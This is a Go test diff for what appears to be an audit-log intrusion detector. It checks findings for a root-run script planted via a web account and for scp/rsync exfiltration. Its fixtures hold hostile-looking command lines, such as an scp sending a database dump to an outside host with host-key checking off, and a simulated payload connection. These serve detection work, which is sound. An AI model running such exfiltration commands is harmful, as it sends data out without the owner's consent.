@@ -109,3 +109,69 @@ func TestChannelTaskReply(t *testing.T) {
 		})
 	}
 }
+
+// TestEscalationThroughWritableScript: a script of the site the web
+// account changed, run by root (cron), is the plant firing with root's
+// rights; the web account running its own change is not; a rewrite no
+// rule flagged (root restoring it with sed -i) ends it; and what the run
+// forks without an exec (its background payload, under a pid never seen)
+// is judged for the web server the change came from.
+func TestEscalationThroughWritableScript(t *testing.T) {
+	script := "/var/www/news/bin/maint.sh"
+	run := func(e *Engine, s *synth, pid int, uid uint32) *Finding {
+		ev := &parser.Event{Kind: parser.KindExec, Syscall: "execve", Success: true, PID: pid, PPID: 500,
+			UID: parser.NewID(uid), EUID: parser.NewID(uid), AUID: parser.NewID(0), User: map[uint32]string{0: "root", 33: "www-data"}[uid],
+			Exe: "/usr/bin/dash", Args: []string{"/bin/sh", script}, Cwd: "/root", Paths: []parser.PathRecord{{Name: script, Nametype: "NORMAL"}}}
+		return findingOf(e.Observe(s.next(ev), s.tree), "planted-file-run")
+	}
+	e, s := webShellScene(t)
+	w := s.file(parser.KindFileWrite, 201, 200, 33, "/usr/bin/dash", script, true)
+	w.Paths = []parser.PathRecord{{Name: script, Nametype: "NORMAL"}} // appended: the script existed
+	if findingOf(e.Observe(w, s.tree), "webroot-script-modified") == nil {
+		t.Fatal("the append to the site's script is not webroot-script-modified")
+	}
+	if f := run(e, s, 600, 33); f != nil {
+		t.Errorf("the web account running its own change: %s fired", f.Title)
+	}
+	f := run(e, s, 601, 0)
+	if f == nil || f.Stage != StagePersistence || f.Severity < SeverityHigh {
+		t.Fatalf("root running the changed script: %v, want planted-file-run on stage 5, high", f)
+	}
+	// the payload: a python3 under a subshell the log never shows
+	ev := &parser.Event{Kind: parser.KindExec, Syscall: "execve", Success: true, PID: 603, PPID: 602,
+		UID: parser.NewID(0), EUID: parser.NewID(0), AUID: parser.NewID(0), User: "root", Exe: "/usr/bin/python3.11", Args: []string{"python3", "-"}, Cwd: "/root"}
+	e.Observe(s.next(ev), s.tree)
+	fs := e.Observe(s.connect(603, 602, 0, "/usr/bin/python3.11", "203.0.113.9", 8001), s.tree)
+	if len(fs) == 0 || fs[0].Stage != StageCommandAndControl {
+		t.Errorf("the forked payload's connect: %v, want a command-and-control finding", ids(fs))
+	}
+	// root restores the script (sed -i renames a new file over it)
+	rs := s.file(parser.KindRename, 610, 601, 0, "/usr/bin/sed", script, true)
+	e.Observe(rs, s.tree)
+	if f := run(e, s, 611, 0); f != nil {
+		t.Errorf("the next run after the restore: %s fired", f.Title)
+	}
+}
+
+// TestSendingCopy: the ssh an scp or rsync runs to send local files is
+// the copy's transport (exfiltration), not a session to another account.
+func TestSendingCopy(t *testing.T) {
+	for _, c := range []struct {
+		parent []string
+		want   bool
+	}{
+		{[]string{"scp", "-q", "-i", "/var/tmp/.nk", "-o", "StrictHostKeyChecking=no", "/var/tmp/.n.sql", "u@203.0.113.9:drop/x.sql"}, true},
+		{[]string{"rsync", "-a", "-e", "ssh -p 2222", "/srv/data/", "backup@198.51.100.4:/bk/"}, true},
+		{[]string{"scp", "u@203.0.113.9:tools/x", "/tmp/x"}, false}, // fetching
+		{[]string{"scp", "/var/tmp/a", "/var/tmp/b"}, false},
+	} {
+		parent := &parser.Process{Exe: "/usr/bin/" + c.parent[0], Args: c.parent}
+		p := &parser.Process{Exe: "/usr/bin/ssh", Parent: parent}
+		if got := sendingCopy(p); got != c.want {
+			t.Errorf("sendingCopy under %q = %v, want %v", c.parent, got, c.want)
+		}
+	}
+	if sendingCopy(&parser.Process{Exe: "/usr/bin/ssh", Parent: &parser.Process{Exe: "/usr/bin/bash", Args: []string{"bash"}}}) {
+		t.Error("an ssh a shell runs is no copy's transport")
+	}
+}
